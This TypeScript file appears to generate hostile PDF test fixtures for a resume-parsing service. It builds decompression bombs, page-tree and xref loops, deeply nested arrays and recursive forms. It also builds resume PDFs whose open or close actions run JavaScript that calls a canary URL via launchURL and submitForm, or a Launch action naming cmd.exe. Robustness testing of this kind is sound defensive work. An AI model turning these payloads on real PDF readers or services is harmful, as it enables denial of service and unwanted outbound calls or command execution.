import { constants, deflateSync } from 'node:zlib';
import type { HostileFile } from './zip-bombs.ts';
import { deflateRepeated } from './zip-writer.ts';

const MEGABYTE = 1_048_576;
/** What a zlib stream begins with. */
const ZLIB_HEADER = Buffer.from([0x78, 0x9c]);

type PdfObject = string | { dictionary: string; stream: Uint8Array };

/** A PDF of these objects, numbered from 1, with the first as its catalog. */
function writePdf(objects: readonly PdfObject[], trailer = ''): Uint8Array {
  const chunks: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const offsets: number[] = [];
  let at = chunks[0]?.length ?? 0;
  objects.forEach((object, index) => {
    offsets.push(at);
    const bytes = Buffer.concat([
      Buffer.from(`${index + 1} 0 obj\n`),
      objectBytes(object),
      Buffer.from('\nendobj\n'),
    ]);
    chunks.push(bytes);
    at += bytes.length;
  });
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  const table = `xref\n0 ${size}\n0000000000 65535 f \n${rows}`;
  const end = `trailer\n<< /Size ${size} /Root 1 0 R ${trailer.replace('XREF', String(at))} >>\nstartxref\n${at}\n%%EOF\n`;
  return Buffer.concat([...chunks, Buffer.from(table + end)]);
}

function objectBytes(object: PdfObject): Buffer {
  if (typeof object === 'string') return Buffer.from(object, 'latin1');
  const head = `<< ${object.dictionary} /Length ${object.stream.length} >>\nstream\n`;
  return Buffer.concat([Buffer.from(head), object.stream, Buffer.from('\nendstream')]);
}

const CATALOG = '<< /Type /Catalog /Pages 2 0 R >>';
const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const PAGE =
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>';
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>';

const text = (content: string): PdfObject => ({
  dictionary: '',
  stream: Buffer.from(content, 'latin1'),
});

/** Rows of text as a page's content. */
function rowsOf(rows: readonly string[]): PdfObject {
  const draw = rows.map((row, index) => {
    const said = row.replace(/[\\()]/g, '\\$&');
    return `1 0 0 1 60 ${740 - index * 14} Tm (${said}) Tj`;
  });
  return text(`BT /F1 10 Tf ${draw.join('\n')} ET`);
}

/** One page with these rows; `catalog` and `further` objects (from number 6) carry what is hostile in it. */
function pdfWith(rows: readonly string[], catalog = '', further: readonly PdfObject[] = []) {
  const root = `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`;
  return writePdf([root, PAGES, PAGE, rowsOf(rows), FONT, ...further]);
}

function flated(content: Uint8Array, times: number): Buffer {
  return Buffer.concat([ZLIB_HEADER, deflateRepeated(content, times)]);
}

/** A page whose content is a gigabyte of one sign, packed `depth` times over. */
function nestedFlate(depth: number, content: Uint8Array, times: number): Uint8Array {
  let stream = flated(content, times);
  for (let level = 1; level < depth; level += 1) {
    stream = deflateSync(stream, { level: constants.Z_BEST_COMPRESSION });
  }
  const filters = '/FlateDecode '.repeat(depth);
  return writePdf([CATALOG, PAGES, PAGE, { dictionary: `/Filter [${filters}]`, stream }, FONT]);
}

function manyPages(count: number): Uint8Array {
  const kids = Array.from({ length: count }, (_, index) => `${index + 5} 0 R`).join(' ');
  return writePdf([
    CATALOG,
    `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`,
    rowsOf(['Analyst']),
    FONT,
    ...Array<string>(count).fill('<< /Type /Page /Parent 2 0 R /Contents 3 0 R >>'),
  ]);
}

/** One page, named so many times, with a count that hides it. */
function samePage(times: number, count: number): Uint8Array {
  const kids = '3 0 R '.repeat(times);
  return writePdf([
    CATALOG,
    `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`,
    PAGE,
    rowsOf(['Analyst']),
    FONT,
  ]);
}

/** Locked with a password that nobody has. */
function encrypted(): Uint8Array {
  const secret = `<${'ab'.repeat(32)}>`;
  const lock = `<< /Filter /Standard /V 2 /R 3 /Length 128 /P -3904 /O ${secret} /U ${secret} >>`;
  return writePdf(
    [CATALOG, PAGES, PAGE, rowsOf(['Analyst']), FONT, lock],
    '/Encrypt 6 0 R /ID [<00><00>]',
  );
}

/** Names objects until one form draws another and that one the first, twice each. */
function formsInForms(depth: number): Uint8Array {
  const form = (index: number): PdfObject => ({
    dictionary: `/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << /X ${index + 7} 0 R >> /Font << /F1 5 0 R >> >>`,
    stream: Buffer.from(index === depth - 1 ? 'BT /F1 9 Tf (Analyst) Tj ET' : '/X Do '.repeat(10)),
  });
  const page =
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /XObject << /X 6 0 R >> >> >>';
  const forms = Array.from({ length: depth }, (_, index) => form(index));
  return writePdf([CATALOG, PAGES, page, text('/X Do'), FONT, ...forms]);
}

const RESUME_ROWS = [
  'Nora Testwell',
  'nora.testwell@example.com',
  'Experience',
  'Data Analyst, Maple Example Foods, March 2020 - Present',
  '- Built weekly sales reports in SQL for 14 store managers',
  'Education',
  'Bachelor of Science in Statistics, Example University, 2017',
];

/** Otherwise good resumes whose PDF does something of its own when it is opened. */
export function livePdfs(canaryUrl: string): HostileFile[] {
  const js = `app.launchURL("${canaryUrl}/js"); this.submitForm("${canaryUrl}/form");`;
  const script = `<< /S /JavaScript /JS (${js.replace(/[\\()]/g, '\\$&')}) >>`;
  const launch = `<< /S /Launch /F (${canaryUrl}/launch) /Win << /F (cmd.exe) >> >>`;
  const named = '<< /JavaScript << /Names [(run) 6 0 R] >> >>';
  const pdf = (name: string, catalog: string, ...further: PdfObject[]): HostileFile => ({
    name: `${name}.pdf`,
    bytes: pdfWith(RESUME_ROWS, catalog, further),
  });
  return [
    pdf('javascript', `/OpenAction ${script}`),
    pdf('javascript-by-reference', '/OpenAction 6 0 R', script),
    pdf('javascript-by-name', `/Names ${named}`, script),
    pdf('javascript-at-closing', '/AA << /WC 6 0 R >>', script),
    pdf('launch', `/OpenAction ${launch}`),
    pdf('launch-by-reference', '/OpenAction 6 0 R', launch),
    pdf('xfa', '/AcroForm 6 0 R', ...xfa()),
  ];
}

function xfa(): PdfObject[] {
  const field = '<field name="f"><ui><textEdit/></ui><value><text>Analyst</text></value></field>';
  const form = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform layout="tb">${field.repeat(10_000)}</subform></template></xdp:xdp>`;
  const packed = deflateSync(form);
  return ['<< /Fields [] /XFA 7 0 R >>', { dictionary: '/Filter /FlateDecode', stream: packed }];
}

/** PDF bombs of every kind that quality.md, item 33, names, and what else a PDF can hold. */
export function pdfBombs(): HostileFile[] {
  const blank = Buffer.alloc(MEGABYTE, ' ');
  const pieces = Buffer.from('1 0 0 1 10 10 Tm (heavy) Tj '.repeat(10_000));
  const pdf = (name: string, bytes: Uint8Array): HostileFile => ({ name: `${name}.pdf`, bytes });
  return [
    pdf('flate', nestedFlate(1, blank, 2_000)),
    pdf('nested-flate', nestedFlate(3, blank, 2_000)),
    pdf('much-text', nestedFlate(2, Buffer.concat([Buffer.from('BT /F1 9 Tf '), pieces]), 200)),
    pdf('pages', manyPages(100_000)),
    pdf('same-page', samePage(100_000, 100_000)),
    pdf('same-page-untold', samePage(100_000, 1)),
    pdf('count-of-a-billion', samePage(1, 1_000_000_000)),
    pdf('pages-loop', writePdf([CATALOG, '<< /Type /Pages /Kids [2 0 R] /Count 1 >>'])),
    pdf('xref-loop', writePdf([CATALOG, PAGES, PAGE, rowsOf(['Analyst']), FONT], '/Prev XREF')),
    pdf('encrypted', encrypted()),
    pdf('forms-in-forms', formsInForms(9)),
    pdf('deep-array', pdfWith(['Analyst'], `/Names ${'['.repeat(500_000)}`)),
  ];
}
